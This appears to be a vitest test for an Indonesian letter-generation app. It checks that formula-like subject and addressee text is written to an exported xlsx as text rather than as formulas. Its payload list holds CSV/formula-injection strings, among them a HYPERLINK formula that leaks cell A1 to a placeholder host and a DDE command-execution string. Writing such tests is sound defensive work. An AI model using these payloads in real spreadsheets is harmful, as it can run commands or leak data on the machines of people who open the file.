import fs from 'node:fs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { JENIS } from '../../../shared/dokumen/jenis/index';
import { dispatch } from '../../../electron/core/handlers';
import { makeCore } from '../../helpers/core';

describe('adversarial: user text written to the agenda-book xlsx', () => {
  it('a subject or addressee that looks like a formula is written as text, never as a formula', async () => {
    const core = makeCore();
    core.demo.load({ pegawai: 5, seed: 1 });
    const contoh = JENIS.get('surat-undangan').contoh as Record<string, unknown>;
    const evil = ['=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', '+1+1', '-2+3', '@SUM(A1:A9)', '=cmd|\' /C calc\'!A0'];
    await core.dokumen.buat({
      jenis: 'surat-undangan',
      data: { ...contoh, hal: evil[0], kepada: evil.slice(1) },
      profilId: core.instansi.list().find((p) => p.jenisKop === 'dinas')!.id,
      tandaTangan: { penandatanganId: core.penandatangan.list().find((p) => p.jenis === 'pejabat')!.id, mode: 'langsung', atasNama: '', untukBeliau: '' },
      tanggal: '2026-11-23',
      nomor: { cara: 'otomatis' },
    });
    const r = await dispatch(core, 'nomor.export', { tahun: 2026 });
    expect(r.ok).toBe(true);
    const file = core.files.resolve((r as { ok: true; value: { file: string } }).value.file).path;
    const parts = unzipSync(fs.readFileSync(file));
    const sheets = Object.entries(parts).filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThan(0);
    for (const [, xml] of sheets) expect(strFromU8(xml)).not.toMatch(/<f[\s>]/);
    const strings = Object.entries(parts)
      .filter(([n]) => /sharedStrings|worksheets/.test(n))
      .map(([, b]) => strFromU8(b))
      .join('');
    expect(strings).toContain('=HYPERLINK(');
  });
});
